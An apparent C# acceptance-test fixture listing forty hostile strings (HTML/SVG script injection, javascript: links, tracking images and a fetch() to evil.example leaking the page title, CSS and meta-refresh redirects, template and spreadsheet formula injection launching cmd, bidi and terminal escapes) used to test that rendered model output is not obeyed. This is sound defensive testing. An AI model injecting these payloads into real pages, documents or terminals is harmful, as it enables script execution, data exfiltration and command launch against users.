namespace EvalKit.AcceptanceTests.Reports;

/// <summary>Forty texts that a model could answer and that something between it and a reader could obey. What runs of them sets <c>window.obeyed</c>.</summary>
internal static class HostileTexts
{
    /// <value>The default value is 5 MB on one line.</value>
    public const int LongLength = 5_000_000;

    /// <summary>Stands for a lone surrogate, which no encoder of .NET writes; see <see cref="InJson"/>.</summary>
    private const string High = "LONE-HIGH";

    private const string Low = "LONE-LOW";

    public static IReadOnlyList<string> All { get; } =
    [
        "<script>window.obeyed=1</script>",
        "</script><script>window.obeyed=1</script>",
        "</ScRiPt ><img src=x onerror=window.obeyed=1>",
        "<!--<script>window.obeyed=1//",
        "--></script><svg onload=window.obeyed=1>",
        "<svg><script href=\"data:text/javascript,window.obeyed=1\"/></svg>",
        "<svg><animate onbegin=window.obeyed=1 attributeName=x dur=1s>",
        "<img src=https://evil.example/i.png>",
        "<img src=x onerror=\"fetch('https://evil.example/'+document.title)\">",
        "<iframe srcdoc=\"<script>parent.obeyed=1</script>\"></iframe>",
        "<iframe src=\"javascript:parent.obeyed=1\"></iframe>",
        "<object data=\"data:text/html,<script>parent.obeyed=1</script>\">",
        "<embed src=//evil.example/e.swf>",
        "<link rel=stylesheet href=https://evil.example/s.css>",
        "<style>@import url(https://evil.example/s.css); * { display: none }</style>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example/><button autofocus onfocus=window.obeyed=1>ok",
        "<input autofocus onfocus=window.obeyed=1>",
        "<details open ontoggle=window.obeyed=1>",
        "<video><source onerror=window.obeyed=1></video>",
        "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=window.obeyed=1>",
        "<a href=\"javascript:window.obeyed=1\">click</a>",
        "javascript:window.obeyed=1",
        "[click](javascript:window.obeyed=1)",
        "![track](https://evil.example/t.png?leak=1)",
        "<https://evil.example/> www.evil.example",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cub2JleWVkPTE8L3NjcmlwdD4=",
        "\" onmouseover=\"window.obeyed=1\" x=\"",
        "' autofocus onfocus='window.obeyed=1",
        "&lt;script&gt;window.obeyed=1&lt;/script&gt; &amp; &#60;b&#62;",
        "{{constructor.constructor('window.obeyed=1')()}} ${window.obeyed=1} #{7*7} <%= 7*7 %>",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\u202Egnp.exe\u202C \u2066reversed\u2069 \u200Fafter",
        "\u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007",
        "nul \0 bell \u0007 delete \u007F line\u2028separator\u2029end\r\nnext",
        $"{High} alone {Low} {Low}{High} \uFFFE\uFFFF",
        "__proto__ constructor toString \"}],\"x\":\"\\",
        new('\u00E9', LongLength / 2),
    ];

    /// <summary>A JSON text in which lone surrogates stand where <see cref="All"/> holds their places.</summary>
    public static string InJson(string json) => json.Replace(High, "\\ud800", StringComparison.Ordinal).Replace(Low, "\\udc00", StringComparison.Ordinal);
}
